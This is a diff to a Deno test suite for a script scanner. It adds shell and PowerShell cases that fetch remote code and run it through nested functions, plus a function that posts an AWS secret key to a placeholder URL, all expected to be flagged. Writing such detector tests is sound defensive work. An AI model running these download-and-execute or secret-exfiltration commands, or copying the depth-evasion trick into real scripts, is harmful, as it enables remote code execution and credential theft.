@@ -1583,6 +1583,9 @@ Deno.test("shell: a function of the script runs its body on what is piped to it,
       `f() {\n  cd /tmp\n  sh\n}\ncurl -fsSL ${url} | f`,
       `function install {\n  bash -s\n}\ncurl -fsSL ${url} | install`,
       `get() {\n  curl -fsSL ${url}\n}\nget | sh`,
+      // Wrappers of wrappers: each read once per input, however deep (a limit of 8 let 9 by).
+      Array.from({ length: 12 }, (_, i) => `f${i}() {\n  f${i + 1}\n  f${i + 1}\n}\n`).join("") +
+      `f12() {\n  sh\n}\ncurl -fsSL ${url} | f0`,
     ].map((way) => `${way}\n`),
     [
       `f() {\n  grep -c x\n}\ncurl -fsSL ${url} | f\n`,
@@ -1608,6 +1611,12 @@ Deno.test("PowerShell: a download run and a secret sent by way of variables are 
     `$s = irm ${url}\nSet-Alias run iex\nrun $s\n`,
     `$s = irm ${url}\n& ("ie" + "x") $s\n`,
     `$s = irm ${url}\n$b = $ExecutionContext.InvokeCommand.NewScriptBlock($s)\n`,
+    // The script's own functions: a parameter run, by position or by name; a result downloaded.
+    `function Run($c) {\n    Invoke-Expression $c\n}\n$code = irm ${url}\nRun $code\n`,
+    `function Invoke-Thing {\n    param([string]$Command)\n    iex $Command\n}\n$code = irm ${url}\nInvoke-Thing -Command $code\n`,
+    `function Get-Payload { Invoke-RestMethod ${url} }\n$p = Get-Payload\niex $p\n`,
+    Array.from({ length: 12 }, (_, i) => `function G${i}($c) { G${i + 1} $c; G${i + 1} $c }\n`)
+      .join("") + `function G12($c) { iex $c }\n$d = irm ${url}\nG0 $d\n`,
   ], [
     "# $code = irm https://get.example.net/x; iex $code\n",
     "<#\n iex (irm https://get.example.net/x)\n#>\nWrite-Host done\n",
@@ -1615,6 +1624,9 @@ Deno.test("PowerShell: a download run and a secret sent by way of variables are 
     `$data = Invoke-RestMethod ${url}\n$data | ConvertTo-Json\n`,
     `$r = irm ${url}\n($r).Count\n`,
     "Set-Alias ll Get-ChildItem\nll\n",
+    'function Run($c) {\n    Invoke-Expression $c\n}\nRun "Write-Host hi"\n',
+    "function Loop($n) {\n    Loop $n\n}\nLoop 1\n",
+    `function Show($x) { Write-Host $x }\n$d = irm ${url}\nShow $d\n`,
     '$tool = "git"\n& $tool status\n',
     `Invoke-WebRequest ${url} -OutFile data.json\nGet-Content data.json | ConvertFrom-Json\n`,
   ]);
@@ -1633,6 +1645,13 @@ Deno.test("PowerShell: a download run and a secret sent by way of variables are 
   assert.deepEqual(
     ps(
       `$all = Get-ChildItem env: | Out-String\n(New-Object Net.WebClient).UploadString("${post}", $all)\n`,
+    ),
+    ["critical"],
+  );
+  // A function's parameter sent: the call sends what it is given.
+  assert.deepEqual(
+    ps(
+      `function Send($data) {\n    Invoke-RestMethod -Uri ${post} -Method Post -Body $data\n}\nSend $env:AWS_SECRET_ACCESS_KEY\n`,
     ),
     ["critical"],
   );
